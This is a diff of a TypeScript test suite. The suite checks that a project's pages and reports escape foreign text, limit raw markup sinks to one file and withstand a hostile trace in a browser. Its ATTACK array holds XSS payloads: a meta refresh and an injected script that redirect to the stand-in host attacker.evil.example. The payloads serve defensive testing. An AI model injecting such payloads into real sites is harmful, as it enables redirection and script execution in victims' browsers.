@@ -1,4 +1,4 @@
-/** Foreign text in pages and reports: it remains text everywhere, and only the template creates markup. */
+/** Foreign text in pages and reports remains text; only the template creates markup. */
 import { mkdtempSync, rmSync, statSync, writeFileSync } from 'node:fs'
 import { tmpdir } from 'node:os'
 import { join } from 'node:path'
@@ -68,11 +68,9 @@ describe('a template of markup', () => {
 })
 
 describe('the sources', () => {
-  /** Placeholders in texts of this project are in capitals: `<FILE>`. */
+  /** Matches HTML tags. Placeholders in the project's texts are in capitals: `<FILE>`. */
   const TAG = /<\/?[a-z][\w-]*(?:[\s/>]|$)|<[!?][a-z]/
-  /**
-   * Answers of a broken gateway, an argument in the help of a command, and pages of Markdown; they contain no values.
-   */
+  /** Texts without inserted values: responses of a broken gateway, an argument in the help of a command, Markdown. */
   const ALONE =
     /^(?:<svg …\/>|An answer:\n\n```xml\n<svg [^$]*>…<\/svg>\n```|<html><body>[\w ]+<\/body><\/html>|<what>|Open a request, change its body if you like, [^$]*)$/
 
@@ -105,7 +103,7 @@ describe('the sources', () => {
     return found
   }
 
-  /** PHP as an example of the documentation; its beginning looks like a tag. */
+  /** The documentation contains PHP examples, whose beginning resembles a tag. */
   const OTHER_LANGUAGES = 'server/docs/page/languages.ts'
 
   it('compose markup only by the template', () => {
@@ -134,14 +132,14 @@ describe('the sources', () => {
       'drivers/host/markup.ts',
     ])
     const raw = tsSources().filter(({ text }) => /innerHTML|outerHTML|insertAdjacentHTML|document\.write\b/i.test(text))
-    // A drawing of paper, created by the template.
+    // A drawing of paper that the template has created.
     expect(raw.map(({ file }) => file)).toEqual(['emulator/panel/page/src/parts/paper.tsx'])
   })
 })
 
 // ---------------------------------------------------------------- a hostile trace, in a browser
 
-/** Everything that could run, navigate away or send a request, in one text. */
+/** Markup that would run a script, navigate away or send a request. */
 const ATTACK = [
   '"><meta http-equiv="refresh" content="0;url=http://attacker.evil.example/refresh">',
   '</title></style></script><script>window.fallen=1;location="http://attacker.evil.example/script"</script>',
@@ -223,7 +221,7 @@ describe('the command show with a hostile trace', () => {
     const policy = answer?.headers()['content-security-policy']
     for (const one of await page.locator('details').all()) await one.evaluate('(one) => one.open = true')
     await page.mouse.move(200, 200)
-    // Waits for a refresh, and for pictures that load when they scroll into view.
+    // Gives time to a refresh, and to pictures that load when they scroll into view.
     await page.evaluate('window.scrollTo(0, document.body.scrollHeight)')
     await page.waitForLoadState('networkidle')
     const facts = await page.evaluate<{ fallen: unknown; found: string[]; at: string }>(
